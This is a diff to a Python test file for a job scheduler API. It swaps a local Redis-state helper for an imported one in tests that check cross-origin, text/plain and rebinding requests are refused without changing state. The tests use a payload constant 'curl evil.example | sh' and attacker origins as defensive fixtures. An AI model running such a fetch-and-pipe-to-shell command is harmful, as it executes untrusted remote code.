@@ -10,7 +10,6 @@ import os
 import subprocess
 import sys
 import time
-from typing import Any
 
 import httpx
 import pytest
@@ -20,6 +19,7 @@ from starlette.testclient import TestClient
 from scheduler.api.boundary import with_listen_address
 from scheduler.config import ConfigError, Settings
 from tests.conftest import BOTH_FRONTS, ClientFactory, assert_text_error, register
+from tests.deployment_state import deployment_state
 from tests.redis_server import free_port
 
 COMMAND = b'{"command":"curl evil.example | sh"}'
@@ -29,11 +29,6 @@ EVIL = "https://evil.example"
 def own_origin(api: TestClient) -> str:
     """The API's own origin as a browser on its pages says it (scheme, Host's name and port)."""
     return f"{api.base_url.scheme}://{api.base_url.netloc.decode()}"
-
-
-def redis_state(rclient: redis.Redis, prefix: str) -> dict[bytes, Any]:
-    """Every key of the deployment with its value (DUMP): what an attack could change."""
-    return {key: rclient.dump(key) for key in sorted(rclient.scan_iter(f"{{{prefix}}}:*"))}
 
 
 @pytest.fixture
@@ -186,11 +181,11 @@ def test_a_page_the_operator_visits_is_refused_and_changes_nothing(
     status: int,
     message: str,
 ) -> None:
-    before = redis_state(rclient, prefix)
+    before = deployment_state(rclient, prefix)
     body = COMMAND if method != "GET" else None
     response = api.request(method, path, content=body, headers=headers)
     assert_text_error(response, status, message)
-    assert redis_state(rclient, prefix) == before
+    assert deployment_state(rclient, prefix) == before
 
 
 @BOTH_FRONTS
@@ -201,14 +196,14 @@ def test_with_a_key_a_page_is_refused_at_the_boundary_first(
     not make a cross-origin or text/plain submit go through."""
     api = make_client(api_key="k")
     key = {"Authorization": "Bearer k"}
-    before = redis_state(rclient, prefix)
+    before = deployment_state(rclient, prefix)
     foreign = {**key, "Content-Type": "application/json", "Origin": EVIL}
     assert api.post("/jobs", content=COMMAND, headers=foreign).status_code == 403
     plain = {**key, "Content-Type": "text/plain"}
     assert api.post("/jobs", content=COMMAND, headers=plain).status_code == 415
     rebound = {**key, "Host": "attacker.example"}
     assert api.get("/jobs/job-1", headers=rebound).status_code == 400
-    assert redis_state(rclient, prefix) == before
+    assert deployment_state(rclient, prefix) == before
 
 
 @BOTH_FRONTS
